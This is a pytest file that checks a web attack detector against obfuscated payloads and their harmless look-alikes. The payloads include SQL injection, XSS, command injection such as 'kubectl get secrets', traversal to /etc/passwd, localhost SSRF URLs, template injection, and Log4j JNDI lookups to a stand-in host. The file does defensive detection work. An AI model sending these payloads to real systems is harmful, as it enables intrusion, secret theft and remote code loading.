"""Forms of attacks by grammar, and their harmless neighbours."""

from __future__ import annotations

import pytest

from casemate.engines.web.detectors import detectors
from casemate.engines.web.normalize import normalizers

ATTACKS = [
    ("sqli_low", b"' oorr 1=1--"), ("sqli_low", b"UNIunionON SELselectECT 1,2"), ("sqli_low", b"1 --\nunion --\nselect 1,2"),
    ("sqli_low", b"1 and{`if`updatexml(1,concat(0x3a,(select 1)),1)}"), ("sqli_low", b"'%a0or%a01=1--"), ("sqli_low", b"1-if(1=1,sleep(3),0)"),
    ("sqli_low", b"name ASC,(SELECT SLEEP(5))"), ("sqli_low", b"1 and left(version(),1)=5"), ("sqli_low", b"1;table users"),
    ("sqli_low", b'{"id":"7\' or \'1\'=\'1"}'), ("sqli_low", b'{"a":{"b":["x","1 union select 1,2"]}}'), ("sqli_low", b"1+and+1%3d1--+"), ("sqli_low", b'" and "a'), ("sqli_low", b"x' or 'x"),
    ("xss", b"1;alert(1)"), ("xss", b"<x v-on:click=$event.view.alert(1)>"), ("xss", b"<div ng-init=\"constructor.constructor('alert(1)')()\">"),
    ("unix", b"; history"), ("unix", b"8.8.8.8; kubectl get secrets"), ("unix", b";x=$'id'&&$x"), ("unix", b"--use-compress-program=id"),
    ("unix", b";wh$1oami"), ("unix", b"\\nid"), ("unix", b";for i in $(ls /); do echo $i; done"),
    ("windows", b"& %COMSPEC% /c dir"), ("windows", b"& for %i in (whoami) do %i"), ("windows", b"& start calc"), ("windows", b"& (dir)"),
    ("powershell", b"$(Get-Process)"), ("traversal", b"..\x0d/..\x0d/etc/passwd"), ("traversal", b"images/../../../etc/passwd"),
    ("url", b"http://[::1%25eth0]/"), ("url", "http://127。0。0。1/".encode()), ("url", b"view-source:http://127.0.0.1/"),
    ("template", b'{{printf "%s" "a"}}'), ("template", b"{{9|add:9}}"), ("template", b"#foreach($i in [1..2])$i#end"), ("template", b"{{ messages.storages.0.signer.key }}"),
    ("ldap", b"\\2a\\29\\28uid=*"), ("lines", b"x\xc4\x8aSet-Cookie: a=1"), ("xml", b'<?xml version="1.0" encoding="UTF-7"?><a/>'),
    ("code", b'def x = "id".execute()'), ("code", b"process['binding']('spawn_sync')"), ("php", b"';print(md5(1));$a='"), ("php", b"die(md5(1))"),
    ("java", b"Runtime.getRuntime().exec('id')"), ("log4j", b"${${lower:j}ndi:ldap://203.0.113.9/a}"), ("log4j", b"${" * 500 + b"jndi:ldap://203.0.113.9/a}"),
]  # fmt: skip
HARMLESS = [
    ("sqli_low", b'filter=name=="Kill Bill";year=gt=2003'), ("sqli_path", b"/library/union-select-committee-report.pdf"), ("sqli_low", b'{"alg":"RS256","typ":"JWT","kid":"5a1a8660"}'),
    ("sqli_extended", b"\"To be, or not to be\" -- it's from Hamlet, isn't it?"), ("sqli_low", b'{"text":"It\'s a day or two; isn\'t it?"}'), ("sqli_low", "déjà vu à la carte".encode()),
    ("sqli_low", b'What is "AND" in boolean logic, and what is OR for?'),
    ("xss", b"<script> tag async vs defer"), ("xss", b'<a href="https://example.com" onclick="return false">a</a>'), ("xss", b'<a href="javascript:void(0)">a</a>'), ("xss", b'<button @click="save">Save</button>'),
    ("xss", b"refactor: eval() removed"), ("unix_text", b"It's & more"), ("unix_text", b"; )"), ("unix", b"id|date|type"), ("windows_text", b"rock & roll and `path` or `type`"),
    ("traversal_text", b"config/database.yml"), ("traversal_text", b"src/.env.example"), ("traversal", b"../ relative path html"), ("traversal", b"/browse/src/etc/hosts.example.md"),
    ("nosql", b'{"age":{"$gte":18},"name":"Al"}'), ("xpath", b"startswith(Name,'Al') and not (Age lt 18)"), ("lines", b"some\ndata\nfor you"),
    ("java", b"Runtime.getRuntime().availableProcessors()"), ("php", b"See eval(). It is a builtin."), ("log4j", b"${" * 2000), ("unix", b"rm -rf explained"),
    ("template", b"{{ user.name }} and {% for item in items %}"), ("url", b"https://www.example.com/a?b=c"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "value"), ATTACKS)
def test_form_of_attack_is_evidence(name: str, value: bytes) -> None:
    assert any(detectors()[name](view) is not None for view in normalizers()["deep"](value))


@pytest.mark.parametrize(("name", "value"), HARMLESS)
def test_neighbour_of_an_attack_is_no_evidence(name: str, value: bytes) -> None:
    assert [said for view in normalizers()["deep"](value) if (said := detectors()[name](view)) is not None] == []
